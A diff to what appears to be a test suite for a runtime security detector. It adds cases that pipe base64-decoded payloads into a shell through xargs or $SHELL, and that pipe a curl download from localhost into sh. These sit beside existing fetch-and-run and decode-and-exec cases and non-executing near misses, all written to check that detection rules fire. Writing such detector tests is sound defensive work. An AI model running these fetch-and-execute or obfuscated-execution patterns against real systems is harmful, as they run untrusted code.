@@ -371,6 +371,13 @@ def t_encoded_payload(agent):
     code = base64.b64encode(b"pass").decode()
     run([PY, "-c", "import base64; exec(base64.b64decode('%s'))  # %s" % (code, t3)], check=True)
     eq(fields(wait_for(agent, rule, t3))["proc.name"], "python3", "proc.name")
+    # the decoded text handed on through xargs, and to whatever $SHELL is
+    t6 = token()
+    run(["sh", "-c", "T=%s; echo %s | base64 -d | xargs -0 sh -c" % (t6, payload)], check=True)
+    wait_for(agent, rule, t6)
+    t7 = token()
+    run(["bash", "-c", "T=%s; echo %s | base64 -d | $SHELL" % (t7, payload)], check=True, env=dict(os.environ, SHELL="/bin/sh"))
+    wait_for(agent, rule, t7)
     # near misses: decoding without running the result, in a shell and in python
     t4 = token()
     run(["sh", "-c", "T=%s; echo %s | base64 -d >/dev/null" % (t4, payload)], check=True)
@@ -390,6 +397,9 @@ def t_remote_script(agent):
     t2 = token()
     run(["bash", "-c", "T=%s; bash -c \"$(wget -q -T 2 -O- http://127.0.0.1:9/x)\"" % t2])
     eq(fields(wait_for(agent, rule, t2))["proc.name"], "bash", "proc.name")
+    t4 = token()
+    run(["sh", "-c", "T=%s; curl -s --max-time 2 http://127.0.0.1:9/x | xargs -I{} sh -c {}" % t4])
+    wait_for(agent, rule, t4)
     # near miss: the same download saved to a file
     t3 = token()
     run(["sh", "-c", "T=%s; curl -s --max-time 2 -o /dev/null http://127.0.0.1:9/install.sh" % t3])
